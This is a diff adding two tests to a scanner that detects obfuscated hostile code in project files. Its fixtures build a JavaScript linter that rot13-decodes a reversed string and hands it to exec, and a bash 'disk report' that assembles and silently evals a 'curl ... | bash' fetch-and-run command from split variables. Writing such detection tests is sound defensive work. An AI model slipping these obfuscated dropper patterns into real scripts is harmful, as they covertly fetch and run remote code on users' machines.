@@ -150,3 +150,33 @@ def test_a_bare_host_is_classified_as_its_address():
         "raw_ip", "local", "local", "unlisted"]
     # a multicast group or a netmask is no server
     assert [classify_url(h) for h in ("224.0.0.251", "255.255.255.0", "http://239.255.255.250:1900/")] == ["local"] * 3
+
+
+def test_rot13_written_out_over_a_reversed_string_is_read():
+    # set 7's linter: a "rule pack id" reversed, then rot13'd by a hand-written function, given to exec
+    packed = codecs.encode(DROPPER, "rot13")[::-1]
+    lint = ("const cp = require('child_process');\n"
+            f"const RULEPACK = \"{packed}\";\n"
+            "const r13 = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= "
+            "(c = c.charCodeAt(0) + 13) ? c : c - 26));\n"
+            "cp['ex' + 'ec'](r13(RULEPACK.split('').reverse().join('')), () => {});\n")
+    report = scan({"scripts/lint.js": lint})
+    # held, not rejected: the decoded command's line is not where it runs
+    assert report.level == SUSPICIOUS and ("rot13, reversed",) in chains(report)
+    # look-alike: a rot13 toy that turns a greeting round holds nothing
+    toy = lint.replace(packed, codecs.encode("hello from the linter", "rot13")[::-1])
+    assert scan({"scripts/lint.js": toy}).level == CLEAN
+
+
+def test_a_command_spelt_in_shell_variables_and_run_by_eval_is_read_whole():
+    # set 7's disk report: `c="cu"; c="${c}rl"` ... `eval "$c$f$u$s"`
+    report_sh = ("#!/usr/bin/env bash\ndf -h\n"
+                 "o1=203; o2=0; o3=113; o4=17\n"
+                 "c=\"cu\"; c=\"${c}rl\"; f=\" -fs\"; f=\"${f}SL \"; u=\"ht\"\"tp://$o1.$o2.$o3.$o4/d\"; s=\" | ba\"\"sh\"\n"
+                 "( eval \"$c$f$u$s\" >/dev/null 2>&1 & )\n")
+    layers = [layer.text for layer in decode_tree(report_sh, 1)]
+    assert "curl -fsSL http://203.0.113.17/d | bash" in layers
+    assert scan({"scripts/du-report.sh": report_sh}).level == UNSAFE
+    # look-alike: eval of variables that hold a harmless command
+    safe = "#!/bin/sh\ncmd=\"du\"; args=\" -sh .\"\neval \"$cmd$args\"\n"
+    assert scan({"scripts/du.sh": safe}).level == CLEAN
